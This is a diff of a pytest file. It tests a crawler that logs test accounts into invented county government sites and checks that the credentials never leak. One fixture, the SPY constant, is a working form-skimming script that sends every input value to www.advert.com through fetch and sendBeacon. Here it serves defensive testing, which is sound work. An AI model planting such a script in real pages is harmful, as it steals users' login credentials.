@@ -1,10 +1,12 @@
 """A test account on invented sites in real Chromium: which blocks know it, what its page lists, and that nobody reads its words."""
 import gzip
 import json
+from dataclasses import dataclass, field
 from urllib.parse import quote
 
 import pytest
-from login_towns import BLOCKS, HD, HOST, PASSWORD, SSO, USER, Request, Visitor, login_form, moved, register_form, site
+from login_towns import BLOCKS, HD, HOST, PASSWORD, SSO, USER, Asked, Request, Visitor, login_form, moved, register_form, site
+from side_by_side import SECONDS
 
 from pytest_govsite.dossier import Dossier
 from pytest_govsite.gather.accounts_secret import Credentials, credentials_of, variables
@@ -12,23 +14,8 @@ from pytest_govsite.gather.accounts_visit import choose
 from pytest_govsite.model.accounts import Accounts, Login
 from pytest_govsite.model.missing import Blame, Missing, Reason
 
-SITE = "town.test-7"
-NAMES = ("GOVSITE_USER_TOWN_TEST_7", "GOVSITE_PASSWORD_TOWN_TEST_7")
 IN = "sid=known"
-
-
-@pytest.fixture(scope="module")
-def visit(tmp_path_factory):
-    visitor = Visitor(tmp_path_factory.mktemp("results"))
-    yield visitor
-    visitor.close()
-
-
-@pytest.fixture
-def account(monkeypatch):
-    """The test account of the site in the environment."""
-    for name, value in zip(NAMES, (USER, PASSWORD), strict=True):
-        monkeypatch.setenv(name, value)
+EVERYWHERE = ("互动交流", "县长信箱", "依申请公开", "办事服务")
 
 
 def knows(request: Request) -> bool:
@@ -75,7 +62,7 @@ def own(forgets: str = "", lists: str = "", echo: bool = True):
 
 def county(forgets: str = "", lists: str = "<h4>我的咨询</h4><ul><li>公交线路调整</li></ul><h4>我的办件</h4><ul><li>贷款申请</li><li>社保卡</li></ul>", extra: str = ""):
     """A site with one identity behind all blocks."""
-    blocks = {url.strip("/"): bar(url.strip("/")) for url in list(BLOCKS.values())[-4:]}
+    blocks = {url.strip("/"): bar(url.strip("/")) for url in BLOCKS.values()}
     return site(**blocks) | own(forgets, lists) | {f"{SSO}/cas/login": identity(extra), f"{SSO}/cas/register": register_form()}
 
 
@@ -94,83 +81,150 @@ def is_told(said: str | bytes) -> bool:
     return any(form.encode() in said for word in (USER, PASSWORD) for form in (word, quote(word), quote(word, safe=""), json.dumps(word)[1:-1]))
 
 
-def test_one_login_opens_all_blocks(visit, account, capfd, caplog):
-    accounts, asked = visit(county(), SITE)
+SPY = (
+    '<script>document.querySelector("form").addEventListener("submit", () => { const all = [...document.querySelectorAll("input")].map(one => one.value).join("|");'
+    ' fetch("http://www.advert.com/x?" + encodeURIComponent(all)); navigator.sendBeacon("http://www.advert.com/y", all); })</script>'
+)
+AD = {"www.advert.com/x": "x", "www.advert.com/y": "y"}
+
+
+def greeted(request: Request) -> str:
+    return f"<html><meta charset=utf-8><body>您好，{request.said['name']} <a>退出</a></body></html>"
+
+
+def member(request: Request) -> str:
+    right = (request.said.get("name"), request.said.get("word")) == (USER, PASSWORD)
+    return "<html><meta charset=utf-8><body>您好 <a>退出</a></body></html>" if right else login_form("县长信箱登录")
+
+
+FRAME = f'<iframe src="http://{HD}/member/login.html"></iframe>'
+# name: pages; each has an account of its own, one of them with a wrong password
+TOWNS = {
+    "one login": county(),
+    "forgets": county(forgets="xzxx"),
+    "a system of its own": county() | {
+        f"{HD}/member/login.html": login_form("县长信箱登录"), "/xzxx/": site(xzxx=f'<a href="http://{HD}/member/login.html">登录</a>')["/xzxx/"],
+    },
+    "an empty list": county(lists="<h4>我的咨询</h4><ul><li>暂无记录</li></ul>"),
+    "no list": county(lists="<p>手机号已认证</p>"),
+    "refused": county(),
+    "a captcha": county(extra='验证码 <input name="yzm"><img src="/kaptcha.jpg" alt="验证码">'),
+    "in the address": site(xzxx='<a href="/user/in.html">登录</a>') | AD | {
+        "/user/in.html": login_form("用户登录", action="/user/do.html", method="get", extra=SPY), "/user/do.html": greeted,
+    },
+    "outside": site(xzxx='<a href="http://www.advert.com/login.html">登录</a>') | {"www.advert.com/login.html": login_form()},
+    "a frame": site(xzxx=FRAME) | {f"{HD}/member/login.html": member},
+    "without account": county(),
+}
+SITES = {name: f"town.test-{number}" for number, name in enumerate(TOWNS)} | {"without account": "town.other"}
+PASSWORDS = dict.fromkeys(TOWNS, PASSWORD) | {"refused": PASSWORD + "x"}
+
+
+def accounts_of_all() -> dict[str, str]:
+    """The environment in which every town but one has its test account."""
+    user = {f"GOVSITE_USER_TOWN_TEST_{number}": USER for number in range(len(TOWNS) - 1)}
+    return user | {f"GOVSITE_PASSWORD_TOWN_TEST_{number}": PASSWORDS[name] for number, name in enumerate(TOWNS)}
+
+
+@dataclass
+class Visits:
+    """Every town seen with its account, side by side; heard: what was said aloud meanwhile."""
+
+    visitor: Visitor
+    seen: dict[str, tuple] = field(default_factory=dict)
+    heard: tuple[str, ...] = ()
+
+    def __call__(self, name: str) -> tuple[Accounts, Asked]:
+        return self.seen[name]
+
+    def make(self) -> None:
+        begun = {name: self.visitor.begin(SITES[name], pages) for name, pages in TOWNS.items()}
+        self.seen = {name: one.result(SECONDS) for name, one in begun.items()}
+        for name, (accounts, _) in self.seen.items():
+            Dossier(self.visitor.folder).store(SITES[name], "accounts", accounts)
+
+
+@pytest.fixture(scope="module")
+def visits(tmp_path_factory):
+    visitor = Visitor(tmp_path_factory.mktemp("results"))
+    yield Visits(visitor)
+    visitor.close()
+
+
+@pytest.fixture
+def visit(visits, monkeypatch, capfd, caplog):
+    """(Accounts, what was asked) of a town; the first test that asks has all of them visited, and listens."""
+    if not visits.seen:
+        for name, value in accounts_of_all().items():
+            monkeypatch.setenv(name, value)
+        visits.make()
+        visits.heard = (*capfd.readouterr(), caplog.text)
+    return visits
+
+
+def test_one_login_opens_all_blocks(visit):
+    accounts, asked = visit("one login")
     assert (accounts.configured, accounts.refused) == (True, None)
-    assert {one.section: one.known for one in accounts.visits} == dict.fromkeys(("互动交流", "县长信箱", "依申请公开", "办事服务"), True)
+    assert {one.section: one.known for one in accounts.visits} == dict.fromkeys(EVERYWHERE, True)
     assert (accounts.history.lists, accounts.history.entries) == (("我的咨询", "我的办件"), 3)
     assert len(asked.sent()) == 1 and asked.sent()[0].said["word"] == PASSWORD, "the form is sent once"
-    Dossier(visit.folder).store(SITE, "accounts", accounts)
-    output = capfd.readouterr()
-    assert not any(map(is_told, (repr(accounts), output.out, output.err, caplog.text, written(visit.folder))))
 
 
-def test_a_block_that_forgets(visit, account):
-    accounts, _ = visit(county(forgets="xzxx"), SITE)
-    assert {one.section: one.known for one in accounts.visits} == {"互动交流": True, "县长信箱": False, "依申请公开": True, "办事服务": True}
-    assert not is_told(repr(accounts))
+@pytest.mark.parametrize("name", TOWNS)
+def test_nobody_is_told_name_or_password(visit, name):
+    """Not whoever reads the evidence, in memory or in the results folder, the output or the log; nor hosts of others."""
+    accounts, asked = visit(name)
+    assert not any(map(is_told, (repr(accounts), *visit.heard, written(visit.visitor.folder))))
+    assert not [request for request in asked.requests if request.host == "www.advert.com" and request.said]
 
 
-def test_a_system_of_its_own_does_not_know_the_visitor(visit, account):
-    mailbox = {f"{HD}/member/login.html": login_form("县长信箱登录"), "/xzxx/": site(xzxx=f'<a href="http://{HD}/member/login.html">登录</a>')["/xzxx/"]}
-    accounts, asked = visit(county() | mailbox, SITE)
+def test_a_block_that_forgets(visit):
+    accounts, _ = visit("forgets")
+    assert {one.section: one.known for one in accounts.visits} == dict.fromkeys(EVERYWHERE, True) | {"县长信箱": False}
+
+
+def test_a_system_of_its_own_does_not_know_the_visitor(visit):
+    accounts, asked = visit("a system of its own")
     assert {one.section: one.known for one in accounts.visits}["县长信箱"] is False
     assert [request.host for request in asked.sent()] == [SSO]
 
 
-def test_a_user_without_history(visit, account):
-    accounts, _ = visit(county(lists="<h4>我的咨询</h4><ul><li>暂无记录</li></ul>"), SITE)
+def test_a_user_without_history(visit):
+    accounts, _ = visit("an empty list")
     assert (accounts.history.lists, accounts.history.entries) == (("我的咨询",), 0)
-    accounts, _ = visit(county(lists="<p>手机号已认证</p>"), SITE)
+    accounts, _ = visit("no list")
     assert (accounts.history.lists, accounts.history.entries) == ((), 0) and accounts.history.url
 
 
-def test_an_account_that_is_refused(visit, monkeypatch, capfd):
-    for name, value in zip(NAMES, (USER, PASSWORD + "x"), strict=True):
-        monkeypatch.setenv(name, value)
-    accounts, asked = visit(county(), SITE)
+def test_an_account_that_is_refused(visit):
+    accounts, asked = visit("refused")
     assert (accounts.refused.reason, accounts.refused.blame, accounts.visits, accounts.history) == (Reason.UNCLEAR, Blame.ACCOUNT, (), None)
     assert "用户名或密码错误" in accounts.refused.says and "***" in accounts.refused.says
     assert len(asked.sent()) == 1, "a wrong password is not tried again: accounts are locked"
-    output = capfd.readouterr()
-    assert not any(map(is_told, (repr(accounts), output.out, output.err, written(visit.folder))))
 
 
-def test_a_captcha_is_not_solved(visit, account):
-    accounts, asked = visit(county(extra='验证码 <input name="yzm"><img src="/kaptcha.jpg" alt="验证码">'), SITE)
+def test_a_captcha_is_not_solved(visit):
+    accounts, asked = visit("a captcha")
     assert (accounts.refused.reason, accounts.refused.blame) == (Reason.WALL, Blame.WALL) and not asked.sent()
 
 
-def test_a_form_that_sends_its_words_in_the_address_or_to_others(visit, account, capfd):
-    spy = '<script>document.querySelector("form").addEventListener("submit", () => { const all = [...document.querySelectorAll("input")].map(one => one.value).join("|");' \
-          ' fetch("http://www.advert.com/x?" + encodeURIComponent(all)); navigator.sendBeacon("http://www.advert.com/y", all); })</script>'
-    pages = site(xzxx='<a href="/user/in.html">登录</a>') | {"/user/in.html": login_form("用户登录", action="/user/do.html", method="get", extra=spy)}
-    pages |= {"/user/do.html": lambda request: f"<html><meta charset=utf-8><body>您好，{request.said['name']} <a>退出</a></body></html>"}
-    accounts, asked = visit(pages | {"www.advert.com/x": "x", "www.advert.com/y": "y"}, SITE)
-    assert accounts.refused is None and not asked.of("www.advert.com")
-    output = capfd.readouterr()
-    assert not any(map(is_told, (repr(accounts), output.out, output.err, written(visit.folder))))
+def test_a_form_that_sends_its_words_in_the_address_or_to_others(visit):
+    accounts, asked = visit("in the address")
+    assert accounts.refused is None and asked.sent() and not asked.of("www.advert.com")
 
 
-def test_a_login_outside_the_government_is_not_told_the_password(visit, account):
-    pages = site(xzxx='<a href="http://www.advert.com/login.html">登录</a>') | {"www.advert.com/login.html": login_form()}
-    accounts, asked = visit(pages, SITE)
+def test_a_login_outside_the_government_is_not_told_the_password(visit):
+    accounts, asked = visit("outside")
     assert accounts.refused.blame is Blame.ACCOUNT and "www.advert.com" in accounts.refused.says and not asked.sent()
 
 
-def test_the_account_of_another_site_is_not_used(visit, account):
-    accounts, asked = visit(county(), "town.other")
+def test_the_account_of_another_site_is_not_used(visit):
+    accounts, asked = visit("without account")
     assert not accounts.configured and not accounts.visits and not asked.sent()
 
 
-def test_the_form_in_a_layer_or_a_frame(visit, account):
-    frame = {"/xzxx/": site(xzxx=f'<iframe src="http://{HD}/member/login.html"></iframe>')["/xzxx/"]}
-
-    def member(request: Request):
-        right = (request.said.get("name"), request.said.get("word")) == (USER, PASSWORD)
-        return "<html><meta charset=utf-8><body>您好 <a>退出</a></body></html>" if right else login_form("县长信箱登录")
-
-    accounts, _ = visit(site() | frame | {f"{HD}/member/login.html": member}, SITE)
+def test_the_form_in_a_layer_or_a_frame(visit):
+    accounts, _ = visit("a frame")
     assert isinstance(accounts, Accounts) and accounts.configured and accounts.refused is None
 
 
